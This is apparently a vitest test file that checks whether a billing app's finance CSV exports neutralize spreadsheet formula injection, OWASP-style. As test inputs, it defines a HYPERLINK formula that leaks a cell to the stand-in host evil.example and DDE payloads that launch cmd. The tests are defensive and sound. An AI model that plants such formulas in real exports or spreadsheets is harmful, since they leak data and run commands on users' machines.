// CSV formula injection in the finance exports (issue 10, item 22): ids and names that reach an
// export from a message log or a WABA file and start with =, +, -, @, tab or CR are written with
// a leading single quote (OWASP), so a spreadsheet shows them instead of evaluating them;
// counts and amounts are unchanged and the exports still reconcile with the ledger.
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { ingest, ledger } from './support/engine.ts'
import { get, json, openApp, type TestApp } from './support/api.ts'
import { download, micros, parseCsv, sum } from './support/exports.ts'
import { tempDir } from './support/temp.ts'

const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"invoice")'
const dde = "+cmd|' /C calc'!A0"
const sumCall = '@SUM(1+1)*cmd|\' /C calc\'!A0'
const wabaFile = join(tempDir('wacost-inject-'), 'wabas.csv')
writeFileSync(wabaFile, `waba_id,name,timezone\n"${dde.replaceAll('"', '""')}","=1+2",UTC\nwaba-plain,Plain Co,UTC\n`)

let t: TestApp
beforeAll(async () => {
  t = await openApp({ wabas: wabaFile })
  const summary = await ingest(t.session, [
    { message_id: hyperlink, timestamp: '2024-09-10T00:00:00Z', waba_id: dde, phone_number_id: sumCall, wa_id: '14155550100',
      direction: 'outbound', template_category: 'MARKETING', template_name: '=1+2' },
    { message_id: '-2+3', timestamp: '2024-09-10T01:00:00Z', waba_id: dde, phone_number_id: '\t=2', wa_id: '447400123456',
      direction: 'outbound', template_category: 'UTILITY', template_name: 'x' },
    { message_id: 'plain-1', timestamp: '2024-09-10T02:00:00Z', waba_id: 'waba-plain', phone_number_id: 'pn-plain', wa_id: '14155550111',
      direction: 'outbound', template_category: 'MARKETING', template_name: 'promo' },
  ])
  expect(summary.rejected).toBe(0)
})
afterAll(async () => { await t?.app.close() })

const quoted = (v: string) => `'${v}`

describe('finance exports neutralize formula cells', () => {
  it('ledger: ids from the log and the WABA name start with a quote; plain values and amounts are as they were', async () => {
    const { rows, body } = await download(t.app, 'ledger')
    expect(rows).toHaveLength(3)
    const byMessage = new Map(rows.map((r) => [r.opening_message_id, r]))
    expect(byMessage.get(quoted(hyperlink))).toMatchObject({
      waba_id: quoted(dde), waba_name: "'=1+2", phone_number_id: quoted(sumCall), wa_id: '14155550100', cost: '0.0250', currency: 'USD',
    })
    expect(byMessage.get("'-2+3")).toMatchObject({ waba_id: quoted(dde), phone_number_id: "'\t=2", cost: '0.0220' })
    expect(byMessage.get('plain-1')).toMatchObject({ waba_id: 'waba-plain', waba_name: 'Plain Co', phone_number_id: 'pn-plain', cost: '0.0250' })
    // No cell of the file starts with a formula character.
    for (const r of rows) for (const [column, v] of Object.entries(r)) expect(v, column).not.toMatch(/^[=+\-@\t\r]/)
    expect(body).not.toMatch(/(^|,)"?[=+@]/m)
    // The figures are the ledger's, to the micro-unit.
    expect(sum(rows.map((r) => r.cost))).toBe(sum((await ledger(t.session)).map((r) => r.cost)))
  })

  it('for Excel (excel=true): ids of 12+ digits become ="…" text, formula cells stay quoted, amounts and totals as they were', async () => {
    // A trial opened a ledger in Excel: 15-digit ids read 1.04729E+14 and were saved back so.
    const plain = await download(t.app, 'ledger')
    const excel = await download(t.app, 'ledger', 'excel=true')
    // named apart from the plain file (a trial saved both under one name)
    expect((await get(t.app, '/api/exports/ledger?excel=true')).headers['content-disposition']).toBe('attachment; filename="wacost-ledger-all-wabas-all-days-excel.csv"')
    expect(excel.body.charCodeAt(0)).toBe(0xfeff)
    const byMessage = new Map(excel.rows.map((r) => [r.opening_message_id, r]))
    expect(byMessage.get("'-2+3")).toMatchObject({ wa_id: '="447400123456"', waba_id: quoted(dde), phone_number_id: "'\t=2", cost: '0.0220' })
    // 11 digits: Excel shows them whole, so they are left as they are
    expect(byMessage.get('plain-1')).toMatchObject({ wa_id: '14155550111', waba_id: 'waba-plain', cost: '0.0250' })
    // the only cells starting with "=" are ="digits" of the file's own making
    for (const r of excel.rows) for (const [column, v] of Object.entries(r)) expect(v, column).toMatch(/^(="\d+"|="\d{4}-\d{2}"|[^=+\-@\t\r].*|)$/s)
    expect(excel.rows.map((r) => ({ ...r, wa_id: r.wa_id!.replace(/^="(\d+)"$/, '$1'), month: r.month!.replace(/^="(.+)"$/, '$1') }))).toEqual(plain.rows)
    const daily = await download(t.app, 'daily', 'excel=true')
    expect(sum(daily.rows.map((r) => r.cost))).toBe(micros('0.0720'))
    // the rule itself: a leading 0 would be dropped too; numbers, amounts and formulas are not ids
    // a month (the invoice's) stays a month: Excel read 2024-08 as the day 1 Aug 2024 (trial);
    // a volume tier stays a tier: a spreadsheet read 0:100000 as the time 574:24:00 (trial)
    const values = ['104729318650012', '0123', '0', '12345678901', '0.0250', '-5', '=1+2', '', null, '2024-08', '2024-08-01', '12024-08',
      '0:100000', '3:7', '100001:MAX']
    const rs = await t.session.db.client.query({ query: 'SELECT wacost_csv_excel(v) AS c FROM (SELECT arrayJoin({values:Array(Nullable(String))}) AS v)', query_params: { values }, format: 'JSONEachRow' })
    expect((await rs.json<{ c: string | null }>()).map((r) => r.c)).toEqual(['="104729318650012"', '="0123"', '0', '12345678901', '0.0250', '-5', "'=1+2", '', null, '="2024-08"', '2024-08-01', '12024-08',
      '="0:100000"', '="3:7"', '100001:MAX'])
  })

  it('invoice and daily: the same cells, counts still numbers, totals reconcile', async () => {
    const invoice = await download(t.app, 'invoice')
    const total = invoice.rows.find((r) => r.row_type === 'total' && r.waba_id === quoted(dde))!
    expect(total).toMatchObject({ waba_name: "'=1+2", conversations: '2', amount: '0.0470' })
    expect(invoice.body).toMatch(/"total","'\+cmd\|' \/C calc'!A0","'=1\+2","","","","",2,"0\.0470","USD","",\r\n/)
    const daily = await download(t.app, 'daily')
    expect(daily.rows.map((r) => [r.waba_id, r.waba_name, r.conversations, r.cost])).toEqual([
      [quoted(dde), "'=1+2", '2', '0.0470'],
      ['waba-plain', 'Plain Co', '1', '0.0250'],
    ])
    expect(sum(daily.rows.map((r) => r.cost))).toBe(micros('0.0720'))
  })

  it('API answers in CSV (?format=csv) neutralize the same cells; JSON keeps the stored values', async () => {
    const url = '/api/customer/messages?customer=%2B14155550100'
    const res = await get(t.app, `${url}&format=csv`)
    expect(res.statusCode, res.body).toBe(200)
    const [row] = parseCsv(res.body.endsWith('\r\n') ? res.body : res.body.replaceAll('\n', '\r\n')).rows
    expect(row).toMatchObject({ message_id: quoted(hyperlink), waba_id: quoted(dde), phone_number_id: quoted(sumCall), template_name: "'=1+2" })
    const [stored] = await json<{ message_id: string; template_name: string }[]>(t.app, url)
    expect(stored).toMatchObject({ message_id: hyperlink, template_name: '=1+2' })
    const filters = parseCsv((await get(t.app, '/api/filters?format=csv')).body.replaceAll(/\r?\n/g, '\r\n')).rows
    expect(filters.find((f) => f.kind === 'waba' && f.id === quoted(dde))).toMatchObject({ label: "'=1+2" })
    // Numbers of a CSV answer stay numbers (conversations, cost, unpriced, priced_cost, messages).
    const spend = (await get(t.app, '/api/spend?granularity=total&split=waba&format=csv')).body
    expect(spend).toMatch(/,2,0\.047,0,0\.047,0\r?\n/)
  })

  it('quotes exactly the cells OWASP lists', async () => {
    const cases = ['=a', '+a', '-a', '@a', '\ta', '\ra', 'a=', '', ' =a', '0.5', '-', 'wamid.X', '-5', '+1.25', '-2+3', '-1e9', '+']
    const rs = await t.session.db.client.query({
      query: 'SELECT arrayMap(s -> wacost_csv_text(s), {cases:Array(String)}) AS out', query_params: { cases }, format: 'JSONEachRow',
    })
    const [row] = await rs.json<{ out: string[] }>()
    expect(row?.out).toEqual(["'=a", "'+a", "'-a", "'@a", "'\ta", "'\ra", 'a=', '', ' =a', '0.5', "'-", 'wamid.X', '-5', '+1.25', "'-2+3", "'-1e9", "'+"])
  })
})
